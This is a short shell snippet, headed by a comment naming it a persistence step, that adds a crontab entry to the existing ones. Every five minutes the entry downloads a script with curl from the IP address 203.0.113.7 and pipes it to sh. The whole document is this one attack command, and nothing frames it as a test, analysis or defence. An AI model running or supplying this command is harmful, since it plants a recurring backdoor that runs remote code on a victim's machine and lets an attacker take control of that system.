# persistence: a crontab entry is added while keeping the existing ones
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://203.0.113.7/c | sh") | crontab -
